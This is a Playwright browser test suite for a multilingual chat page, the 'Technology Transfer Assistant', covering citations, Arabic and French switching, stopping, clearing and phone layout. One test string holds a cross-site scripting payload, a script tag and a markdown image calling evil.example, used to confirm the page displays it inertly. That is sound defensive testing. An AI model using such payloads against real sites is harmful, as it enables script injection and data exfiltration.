"""The chat page in a real browser."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.conftest import WebServer

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed")
QUESTION = "What is withheld from royalties paid from China?"
HOSTILE = "royalties <script>fetch('http://evil.example')</script> ![x](http://evil.example/a.png) paid from China"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Browser, web_server: WebServer) -> Iterator[Page]:
    """The page in English; afterwards nothing has left the machine and the console is clean."""
    context = browser.new_context(viewport={"width": 1366, "height": 768}, locale="en-GB")
    page = context.new_page()
    requested: list[str] = []
    faults: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.on("console", lambda message: faults.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.goto(web_server.url)
    expect(page.locator("#header h1")).to_have_text("Technology Transfer Assistant")
    yield page
    context.close()
    assert [url for url in requested if not url.startswith((web_server.url, "data:", "blob:"))] == []
    assert faults == []


def _ask(page: Page, question: str) -> None:
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")


def _choose(page: Page, dropdown: str, name: str) -> None:
    page.locator(f"{dropdown} input").click()
    page.get_by_role("option", name=name).click()


def test_a_question_gets_an_answer_with_a_mark_and_a_source_card(page: Page) -> None:
    _ask(page, QUESTION)
    expect(page.locator("#chat .answer a.mark").first).to_have_text("[1]")
    expect(page.locator("#panel .card blockquote").first).not_to_be_empty()
    expect(page.locator("#send")).to_be_visible()


def test_a_mark_leads_to_its_card(page: Page) -> None:
    _ask(page, QUESTION)
    expect(page.locator("#send")).to_be_visible()
    page.locator("#chat .answer a.mark").last.click()
    expect(page.locator("#panel .card.shown")).to_be_in_viewport()


def test_switching_to_arabic_turns_the_whole_page_without_reload(page: Page) -> None:
    _ask(page, QUESTION)
    expect(page.locator("#panel .card").first).to_be_visible()
    _choose(page, "#language", "العربية")
    expect(page.locator("html")).to_have_attribute("dir", "rtl")
    expect(page.locator("html")).to_have_attribute("lang", "ar")
    expect(page.locator("#send")).to_have_text("إرسال")
    expect(page.locator("#chat .answer")).to_have_attribute("dir", "ltr")
    expect(page.locator("#panel .status").first).to_have_text("نافذ")


def test_the_answer_comes_in_the_language_chosen_for_it(page: Page) -> None:
    _choose(page, "#answer-language", "中文")
    _ask(page, QUESTION)
    expect(page.locator("#chat .answer")).to_have_attribute("lang", "zh")


def test_hostile_text_is_shown_as_it_is_and_does_nothing(page: Page) -> None:
    _ask(page, HOSTILE)
    expect(page.locator("#chat .said")).to_have_text(HOSTILE)
    expect(page.locator("#send")).to_be_visible()
    assert page.locator("#chat .said *").count() == 0
    assert page.locator("#panel img, #chat img, #chat script").count() == 0


def test_a_question_without_words_gets_a_sentence_in_the_language_of_the_page(page: Page) -> None:
    _choose(page, "#language", "Français")
    expect(page.locator("#send")).to_have_text("Envoyer")
    _ask(page, "🙂")
    expect(page.locator("#chat .notice")).to_contain_text("ne contient aucun mot")


def test_an_example_is_asked_by_a_click_and_the_conversation_can_be_cleared(page: Page) -> None:
    page.locator("#suggestions button").nth(1).click()
    expect(page.locator("#chat .said")).to_have_text(QUESTION)
    expect(page.locator("#chat .answer")).to_be_visible()
    expect(page.locator("#clear")).to_be_enabled()
    page.locator("#clear").click()
    expect(page.locator("#chat .welcome")).to_be_visible()
    expect(page.locator("#chat .said")).to_have_count(0)


def test_stopping_ends_the_answer_and_the_next_question_is_answered(page: Page) -> None:
    _ask(page, QUESTION)
    page.locator("#stop").click()
    expect(page.locator("#send")).to_be_visible()
    _ask(page, "Must we register a licence?")
    expect(page.locator("#chat .said")).to_have_count(2)
    expect(page.locator("#chat .answer").last).to_be_visible()
    expect(page.locator("#send")).to_be_visible()


def test_nothing_hangs_over_the_edge_of_a_phone(page: Page) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    _ask(page, QUESTION)
    expect(page.locator("#panel .card").first).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
